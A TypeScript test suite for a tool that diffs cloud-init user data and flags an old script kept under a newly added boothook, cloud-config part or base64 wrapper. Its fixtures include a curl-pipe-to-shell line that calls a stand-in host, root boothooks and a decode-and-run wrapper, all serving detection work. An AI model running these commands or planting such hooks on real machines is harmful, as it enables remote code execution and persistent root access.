import fc from 'fast-check';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decodeUserData } from '@/lib/payload/decode-payload';
import { diffPayloads } from './diff-payload';
import { hostileUserData } from '@/lib/payload/fuzz.test-support';

const OLD = '#!/bin/bash\nyum update -y\necho ready > /var/tmp/ready\n';
const decode = (content: string | Uint8Array) =>
  decodeUserData(typeof content === 'string' ? new TextEncoder().encode(content) : new Uint8Array(content));
const diff = (older: string | Uint8Array, newer: string | Uint8Array) =>
  diffPayloads(decode(older), decode(newer));
const mime = (...parts: [type: string, body: string][]) =>
  `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="//"\n\n${parts
    .map(([type, body]) => `--//\nContent-Type: ${type}\n\n${body}\n`)
    .join('')}--//--\n`;

describe('the story of two versions', () => {
  it('is the old script under a new boothook', () => {
    const { story, older, newer } = diff(OLD, `#cloud-boothook\n#!/bin/sh\nid > /tmp/id\n\n${OLD}`);
    expect([older.runsAtNextStart, newer.runsAtNextStart]).toEqual(['no', 'yes']);
    expect(story).toEqual({
      kind: 'kept',
      says: 'The old content is kept unchanged under 4 new lines; the new head is a boothook that runs at every boot as root.',
    });
  });

  it('is the old script as a part beside a new one that makes scripts run always', () => {
    const newer = mime(
      ['text/cloud-config', '#cloud-config\ncloud_final_modules:\n- [scripts-user, always]\n'],
      ['text/x-shellscript', OLD],
    );
    expect(diff(OLD, newer).story.says).toBe(
      'The old content is kept unchanged as part 2 of 2; the new part 1 is cloud-config that runs at every boot as root.',
    );
  });

  it('is the old script as an entry of an archive', () => {
    const archive = `#cloud-config-archive\n- type: text/cloud-boothook\n  content: |\n    #!/bin/sh\n    id\n- type: text/x-shellscript\n  content: ${JSON.stringify(OLD)}\n`;
    expect(diff(OLD, archive).story).toMatchObject({
      kind: 'kept',
      says: expect.stringMatching(/as part 1\.2 of 2; the new part 1\.1 is a boothook/) as string,
    });
  });

  it('is the old script carried in base64', () => {
    const carried = Buffer.from(OLD).toString('base64');
    const newer = `#cloud-boothook\n#!/bin/bash\nid\necho ${carried} | base64 -d > /tmp/old && bash /tmp/old\n`;
    expect(diff(OLD, newer).story.says).toMatch(
      /^The old content is kept unchanged but encoded \(base64\) on line 4 of part 1; what carries it is a boothook that runs at every boot/,
    );
  });

  it('is every old part kept, where there were several', () => {
    const parts: [string, string][] = [
      ['text/x-shellscript', OLD],
      ['text/cloud-config', '#cloud-config\npackages: [jq]\n'],
    ];
    const { story } = diff(
      mime(...parts),
      mime(['text/cloud-boothook', '#cloud-boothook\n#!/bin/sh\nid\n'], ...parts),
    );
    expect(story.says).toMatch(/^All 2 old parts are kept unchanged .* is a boothook/);
  });

  it('is that nothing but white space, line ends or packing changed', () => {
    expect(diff(OLD, OLD).story.kind).toBe('same');
    expect(diff(OLD, OLD.replaceAll('\n', '\r\n')).story).toMatchObject({
      kind: 'white-space',
      says: expect.stringMatching(/line endings/) as string,
    });
    expect(diff(OLD, OLD.replace('yum update', 'yum  update')).story.kind).toBe('white-space');
    expect(diff(OLD, new Uint8Array(gzipSync(OLD))).story.kind).toBe('packing');
  });

  it('says nothing of a script that was replaced', () => {
    expect(diff(OLD, '#!/bin/sh\nid\n').story).toEqual({ kind: 'replaced', says: '' });
    expect(diff('', OLD).story.kind).toBe('replaced');
    expect(diff('#!', `x\n#!/bin/sh\n${OLD}`).story.kind).toBe('replaced');
  });

  it('recognises old content under any new head, whatever ends the lines', () => {
    const lines = fc.array(fc.constantFrom('id', 'echo a', 'curl -s http://192.0.2.9/a | sh', '# note', ''), {
      minLength: 1,
      maxLength: 8,
    });
    const head = fc.constantFrom(
      '#cloud-boothook\n#!/bin/sh',
      '#!/bin/sh',
      '#part-handler',
      '## template: jinja',
    );
    fc.assert(
      fc.property(lines, head, lines, fc.constantFrom('\n', '\r\n'), (old, first, added, end) => {
        const older = `#!/bin/bash\n${old.join('\n')}\necho the end\n`;
        const newer = `${first}\n${added.join('\n')}\n${older}`.replaceAll('\n', end);
        const { story } = diff(older, newer);
        expect(story.kind).toBe('kept');
        expect(story.says).toMatch(/under \d+ new lines?;/);
      }),
    );
  });
});

describe('what changed between two versions', () => {
  it('lists findings that came and went, wherever they moved', () => {
    const { indicators } = diff(
      '#!/bin/sh\ncurl http://192.0.2.9/a | sh\n',
      '#!/bin/sh\n\n\ncurl http://192.0.2.9/a | sh\nvisudo\n',
    );
    expect(indicators.gone).toEqual([]);
    expect(indicators.added.map(({ line }) => line)).toEqual([5]);
  });

  it('follows a part that moved and was edited, and tells new parts from gone ones', () => {
    const older = mime(['text/x-shellscript', OLD], ['text/x-shellscript', '#!/bin/sh\nls\n']);
    const newer = mime(
      ['text/cloud-config', '#cloud-config\nbootcmd: [id]\n'],
      ['text/x-shellscript', `${OLD}id\n`],
    );
    const parts = diff(older, newer).parts.map(({ left, right, status }) => [
      left?.path,
      right?.path,
      status,
    ]);
    expect(parts).toEqual([
      [undefined, '1', 'new'],
      ['1', '2', 'changed'],
      ['2', undefined, 'gone'],
    ]);
  });

  it('never throws, takes up every part once, and turns round when the versions do', () => {
    fc.assert(
      fc.property(hostileUserData, hostileUserData, (one, other) => {
        const [a, b] = [decode(one.bytes), decode(other.bytes)];
        const [there, back] = [diffPayloads(a, b), diffPayloads(b, a)];
        expect(there.parts.flatMap(({ left }) => left ?? [])).toHaveLength(a.parts.length);
        expect(there.parts.flatMap(({ right }) => right ?? [])).toHaveLength(b.parts.length);
        expect([back.older, back.newer]).toEqual([there.newer, there.older]);
        expect(back.indicators.gone).toEqual(there.indicators.added);
        expect(back.layers).toEqual({ gone: there.layers.added, added: there.layers.gone });
      }),
      { numRuns: 100 },
    );
  });
});
